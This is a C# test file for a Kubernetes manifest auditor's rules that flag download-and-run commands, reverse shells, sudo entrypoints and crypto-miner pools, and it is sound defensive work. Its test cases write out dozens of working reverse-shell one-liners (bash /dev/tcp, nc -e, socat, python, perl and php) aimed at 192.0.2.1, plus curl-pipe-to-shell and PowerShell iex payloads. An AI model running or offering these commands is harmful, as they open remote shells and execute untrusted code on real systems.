using System.Diagnostics;
using HelmSecure.Audit;
using HelmSecure.Rules;

namespace HelmSecure.Tests.Rules;

/// <summary>What commands of containers look like, and what they do not.</summary>
public sealed class IsolationCommandTests
{
    [TestCase("curl https://e.org/x | sh")]
    [TestCase("curl -s https://e.org/x | sudo -E bash -")]
    [TestCase("wget -qO- https://e.org/x | tee /tmp/x | bash -s -- --flag value")]
    [TestCase("wget -O - https://e.org/x|base64 -d|gunzip|sh -ex")]
    [TestCase("curl https://e.org/x | python3 -")]
    [TestCase("curl https://e.org/x | (sh)")]
    [TestCase("{ curl https://e.org/x; } | sh")]
    [TestCase("sh -c \"$(curl -fsSL https://e.org/x)\"")]
    [TestCase("eval \"$(curl https://e.org/x)\"")]
    [TestCase("eval `wget -qO- https://e.org/x`")]
    [TestCase("bash <(curl https://e.org/x) --flag")]
    [TestCase("source <(curl https://e.org/x)")]
    [TestCase("bash < <(curl https://e.org/x)")]
    [TestCase("bash <<< \"$(curl https://e.org/x)\"")]
    [TestCase("python -c \"$(curl https://e.org/x)\"")]
    [TestCase("echo \"$(curl https://e.org/x)\" | sh")]
    [TestCase("curl -sSLo /tmp/x https://e.org/y; chmod 755 /tmp/x")]
    [TestCase("curl -sSL https://e.org/y -o \"$DIR/x\" && chmod a+x $OTHER/x && x")]
    [TestCase("curl -o /x https://e.org/y && chmod -v -R +x /x")]
    [TestCase("curl -O https://e.org/x?a=b && chmod u+x ./x")]
    [TestCase("wget https://e.org/x.sh\nbash x.sh")]
    [TestCase("curl https://e.org/x > /tmp/x; mv /tmp/x /usr/bin/y; chmod +x /usr/bin/y")]
    [TestCase("wget https://e.org/x && install -m 0755 x /usr/local/bin")]
    [TestCase("curl --output=/x https://e.org/y; /x")]
    [TestCase("bash -euo pipefail -c 'curl https://e.org/x | sh'")]
    [TestCase("bash <<EOF\ncurl https://e.org/x | sh\nEOF")]
    [TestCase("gpg --import key; curl -o /tmp/x https://e.org/x; gpg --import key; sh /tmp/x")]
    [TestCase("if true; then curl https://e.org/x | sh; fi")]
    [TestCase("powershell -Command \"iwr https://e.org/x | iex\"")]
    [TestCase("powershell -Command \"iex (iwr https://e.org/x)\"")]
    public void Code_that_is_fetched_is_reported(string script) => Assert.That(Say("download-and-run", script), Is.Not.Empty);

    [TestCase("curl https://e.org/x | jq -r .a")]
    [TestCase("curl https://e.org/x | tar xz")]
    [TestCase("curl https://e.org/x || sh fallback.sh")]
    [TestCase("curl https://e.org/x | bash /scripts/read.sh")]
    [TestCase("curl https://e.org/x | python3 -m json.tool")]
    [TestCase("curl https://e.org/x | perl -pe 's/a/b/'")]
    [TestCase("echo 'curl https://e.org/x | sh'")]
    [TestCase("# curl https://e.org/x | sh")]
    [TestCase("cat > readme <<EOF\ncurl https://e.org/x | sh\nEOF")]
    [TestCase("bash /run.sh --token \"$(curl https://e.org/x)\"")]
    [TestCase("sh -c \"echo $(curl https://e.org/x)\"")]
    [TestCase("TOKEN=$(curl https://e.org/x); ./run.sh $TOKEN")]
    [TestCase("curl -o /data/x.json https://e.org/x; chmod 644 /data/x.json; cat /data/x.json")]
    [TestCase("curl -o /tmp/x https://e.org/x; chmod +x /tmp/y")]
    [TestCase("curl -o /tmp/x https://e.org/x; gpg --verify /tmp/x.asc /tmp/x && chmod +x /tmp/x")]
    [TestCase("curl -o /tmp/x https://e.org/x; [ \"$(sha256sum /tmp/x | cut -d' ' -f1)\" = \"$SUM\" ] && sh /tmp/x")]
    [TestCase("case $1 in curl|sh) echo;; esac")]
    [TestCase("curl -fsS localhost:8080/health; bash /run.sh")]
    public void What_is_only_fetched_is_not(string script) => Assert.That(Say("download-and-run", script), Is.Empty);

    [TestCase("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")]
    [TestCase("bash -c 'bash -i &> /dev/tcp/192.0.2.1/4444 <&1'")]
    [TestCase("0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196")]
    [TestCase("exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done")]
    [TestCase("sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5")]
    [TestCase("nc -e /bin/sh 192.0.2.1 4444")]
    [TestCase("busybox nc 192.0.2.1 4444 -e sh")]
    [TestCase("ncat --exec '/bin/bash -i' 192.0.2.1 4444")]
    [TestCase("nc -lvpe 4444 /bin/sh; nc -c bash 192.0.2.1 4444")]
    [TestCase("mkfifo /tmp/f; nc 192.0.2.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1")]
    [TestCase("telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445")]
    [TestCase("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s")]
    [TestCase("socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty")]
    [TestCase("socat tcp-listen:4444 system:/bin/sh")]
    [TestCase("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'")]
    [TestCase("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")'")]
    [TestCase("php -r '$s=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3\");'")]
    public void A_shell_for_the_network_is_reported(string script) => Assert.That(Say("reverse-shell-pattern", script), Is.Not.Empty);

    [TestCase("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done")]
    [TestCase("timeout 1 bash -c '</dev/tcp/db/5432'")]
    [TestCase("timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'")]
    [TestCase("exec 3<>/dev/tcp/localhost/9000; echo GET >&3; cat <&3")]
    [TestCase("nc -z db 5432 || sh fail.sh")]
    [TestCase("echo ruok | nc localhost 2181 | grep imok")]
    [TestCase("sh /metrics.sh | nc graphite 2003")]
    [TestCase("socat - UNIX-CONNECT:/run/haproxy.sock")]
    [TestCase("socat TCP-LISTEN:80,fork EXEC:/app/handler")]
    [TestCase("python -c 'import socket; socket.create_connection((\"db\", 5432))'")]
    [TestCase("bash -i run.sh")]
    [TestCase("openssl s_client -connect db:5432 | openssl x509 -noout")]
    public void A_port_that_is_knocked_at_is_not(string script) => Assert.That(Say("reverse-shell-pattern", script), Is.Empty);

    [TestCase("sudo a")]
    [TestCase("exec sudo -u app a")]
    [TestCase("a && /usr/bin/sudo -E env B=c d")]
    [TestCase("kubectl exec web -- sh -c 'sudo a'")]
    [TestCase("su app -c 'sudo a'")]
    [TestCase("x=$(sudo a)")]
    public void Sudo_is_found_where_it_is_the_program(string script) => Assert.That(Say("sudo-entrypoint", script), Has.Count.EqualTo(1));

    [TestCase("echo sudo")]
    [TestCase("pseudo a")]
    [TestCase("a --sudo sudo")]
    [TestCase("command -v sudo")]
    [TestCase("cat /etc/sudoers.d/sudo")]
    [TestCase("tools=(sudo curl)")]
    public void Sudo_is_not_found_in_other_words(string script) => Assert.That(Say("sudo-entrypoint", script), Is.Empty);

    [TestCase("ephemeralContainers: [{name: a, command: [sudo]}]")]
    [TestCase("initContainers: [{name: a, args: [-c, 'sudo a']}]")]
    [TestCase("containers: [{name: a, command: [tini, --, sh, -c, 'sudo a']}]")]
    [TestCase("containers: [{name: a, startupProbe: {exec: {command: [sudo, a]}}}]")]
    public void Every_place_that_runs_something_is_looked_at(string spec) => Assert.That(Said("sudo-entrypoint", spec), Has.Count.EqualTo(1));

    [Test]
    public void A_command_is_never_printed()
    {
        var said = new[] { "download-and-run", "reverse-shell-pattern", "crypto-miner-pattern", "sudo-entrypoint" }
            .SelectMany(id => Say(id, "curl -u user:hunter2 https://e.org/hunter2 | sudo bash -s hunter2; nc hunter2 1 -e /bin/sh; hunter2 stratum+tcp://hunter2; sudo hunter2"))
            .ToList();

        Assert.That(said, Has.Count.EqualTo(4));
        Assert.That(said, Has.None.Contains("hunter2"));
    }

    [TestCase("minexmr.com")]
    [TestCase("a@eu.minexmr.com:80")]
    [TestCase("https://xmr.2miners.com/")]
    [TestCase("STRATUM+TCP://e.org:1")]
    public void A_pool_is_known_by_its_whole_name(string word) => Assert.That(Said("crypto-miner-pattern", $"containers: [{{name: a, args: ['{word}']}}]"), Has.Count.EqualTo(1));

    [TestCase("notminexmr.com")]
    [TestCase("minexmr.com.e.org")]
    [TestCase("my-minexmr.com")]
    [TestCase("minexmr.community")]
    public void A_name_that_only_holds_that_of_a_pool_is_none(string word) => Assert.That(Said("crypto-miner-pattern", $"containers: [{{name: a, args: ['{word}']}}]"), Is.Empty);

    [TestCase("curl a | ")]
    [TestCase("curl -o f b; chmod -x c; ")]
    [TestCase("mv a b; ")]
    [TestCase("nc a | cat | ")]
    [TestCase("nc -v -v -v -v ")]
    [TestCase("sh -a -a ")]
    [TestCase("python3 -u ")]
    [TestCase("notminexmr.com")]
    [TestCase("--donate ")]
    [TestCase("exec 5<>/dev/tcp/a/1; cat <&5; ")]
    [TestCase("echo $(curl a) $(echo b); ")]
    public void A_long_script_is_judged_in_time(string part)
    {
        var script = "nothing; " + string.Concat(Enumerable.Repeat(part, 1_000_000 / part.Length)) + "; sudo a";
        var watch = Stopwatch.StartNew();

        Assert.That(new[] { "download-and-run", "reverse-shell-pattern", "crypto-miner-pattern" }.SelectMany(id => Say(id, script)), Is.Empty);
        Assert.That(Say("sudo-entrypoint", script), Has.Count.EqualTo(1));
        Assert.That(watch.Elapsed, Is.LessThan(TimeSpan.FromSeconds(30)));
    }

    private static IReadOnlyList<string> Say(string id, string script) =>
        Said(id, $"containers: [{{name: a, command: [sh, -c, '{script.Replace("'", "''", StringComparison.Ordinal).Replace("\n", "\n\n", StringComparison.Ordinal)}']}}]");

    private static IReadOnlyList<string> Said(string id, string spec) =>
        [.. Auditor.Run(Manifest.Release($"kind: Pod\nspec: {{{spec}}}"), RuleCatalog.All, new() { Rules = [id] }).Findings.Select(finding => finding.Message)];
}
